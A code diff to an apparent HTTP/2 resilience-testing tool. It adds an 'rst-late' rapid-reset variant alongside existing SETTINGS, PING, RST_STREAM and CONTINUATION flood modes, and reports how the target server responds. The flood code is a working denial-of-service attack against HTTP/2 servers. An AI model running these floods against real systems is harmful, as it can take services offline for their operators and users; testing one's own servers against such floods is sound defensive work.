@@ -7,7 +7,8 @@ prints one line saying how the server answered, for the shell to judge.
                                      "cut S STATUS" (seconds until the server ended it, the status
                                      it answered or "-") or "alive S" when --max passed first
   flood KIND HOST PORT [--tls ...]   HTTP/2 preface, then KIND frames (settings, ping, rst: HEADERS
-                                     and RST_STREAM in a loop, continuation: one HEADERS and
+                                     and RST_STREAM in a loop, rst-late: the same with 50 HEADERS
+                                     and their RST_STREAMs 20 ms later, continuation: one HEADERS and
                                      CONTINUATION frames without END_HEADERS), reading what comes;
                                      prints "goaway CODE FRAMES S" or "closed FRAMES S" or
                                      "alive FRAMES S"; --repeat S attacks again until S seconds pass
@@ -163,6 +164,8 @@ def flood_once(a, deadline):
     sid = 1
     t0 = time.monotonic()
     batch = []
+    late = []  # rst-late: the resets of the HEADERS in batch
+    rst_upto = 0  # rst-late: the last stream reset
     if a.kind == "continuation":
         s.sendall(frame(HEADERS, 0, 1, req_block()))
     while time.monotonic() < deadline and n < a.max_frames:
@@ -173,15 +176,25 @@ def flood_once(a, deadline):
         elif a.kind == "rst":
             batch.append(frame(HEADERS, 4, sid, req_block()) + frame(RST, 0, sid, struct.pack(">I", 8)))
             sid += 2
+        elif a.kind == "rst-late":
+            batch.append(frame(HEADERS, 4, sid, req_block()))
+            late.append(frame(RST, 0, sid, struct.pack(">I", 8)))
+            sid += 2
         elif a.kind == "continuation":
             batch.append(frame(CONT, 0, 1, hpack_lit(b"x-c%d" % n, b"v" * 40)))
         n += 1
         if len(batch) >= (5 if a.kind == "continuation" else 50):
             try:
                 s.sendall(b"".join(batch))
+                if late:
+                    # the server has opened them (upstream too) before they are reset
+                    time.sleep(0.02)
+                    s.sendall(b"".join(late))
+                    rst_upto = sid - 2
             except OSError:
                 r.closed = True
             batch = []
+            late = []
             if a.read:
                 r.poll()
             if r.closed or r.goaway is not None:
@@ -193,7 +206,7 @@ def flood_once(a, deadline):
     # frames the server took before it said GOAWAY: the acknowledgements of our SETTINGS
     # (less the first, of the preface) or PINGs; for rapid reset, the streams it saw
     done = {"settings": r.acks - 1, "ping": r.acks, "rst": (r.last_sid + 1) // 2,
-            "continuation": n}[a.kind]
+            "rst-late": (min(r.last_sid, rst_upto) + 1) // 2, "continuation": n}[a.kind]
     if r.goaway is not None:
         return "goaway %d %d %.2f" % (r.goaway, done, el)
     return ("closed %d %.2f" if r.closed else "alive %d %.2f") % (done, el)
@@ -322,7 +335,7 @@ def main():
     q.add_argument("--max", type=float, default=30)
     q.add_argument("--tls-hello", action="store_true", help="send a TLS ClientHello instead")
     q = sub.add_parser("flood")
-    q.add_argument("kind", choices=["settings", "ping", "rst", "continuation"])
+    q.add_argument("kind", choices=["settings", "ping", "rst", "rst-late", "continuation"])
     q.add_argument("host")
     q.add_argument("port", type=int)
     q.add_argument("--max", type=float, default=5, help="seconds per connection")
